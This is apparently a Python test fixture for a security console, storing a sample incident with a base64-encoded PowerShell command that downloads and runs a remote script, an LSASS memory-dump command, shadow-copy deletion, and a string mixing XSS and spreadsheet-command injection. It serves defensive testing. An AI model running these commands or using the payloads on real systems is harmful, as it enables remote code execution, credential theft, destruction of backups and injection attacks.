"""An incident in the database of the console, as its pages show it."""

import base64
from collections.abc import Sequence
from typing import Final

from tests.console.running import TENANT, Running
from tests.triage.stored import NOW, judged, new
from tests.vendor import AID, COMPOSITE_ID
from vyrox.models import NormalizedAlert

SCRIPT: Final = "iex (new-object net.webclient).downloadstring('http://185.1.2.3/a.ps1')"
ENCODED: Final = base64.b64encode(SCRIPT.encode("utf-16le")).decode()

HOSTILE: Final = "</text></svg><script>alert(1)</script>\"'><b>\u202e\x1b[31m=cmd|"
"""What an attacker may write into a name."""


async def tell(opened: Running, *more: NormalizedAlert) -> Sequence[NormalizedAlert]:
    """Store one incident of two hosts, with a command that is encoded; return its alerts."""
    known = {"device_id": AID, "raw_id": COMPOSITE_ID, "username": "bob", "severity": "high"}
    found = [
        new(0.0, f"powershell.exe -enc {ENCODED}", process_name="powershell.exe", **known),
        new(60.0, "rundll32.exe comsvcs.dll, MiniDump 624 x.dmp", technique="T1003.001", **known),
        new(120.0, "vssadmin delete shadows /all /quiet", process_name="vssadmin.exe", **known),
        *more,
    ]
    await judged(opened.database, *found)
    return found


__all__ = ["ENCODED", "HOSTILE", "NOW", "SCRIPT", "TENANT", "tell"]
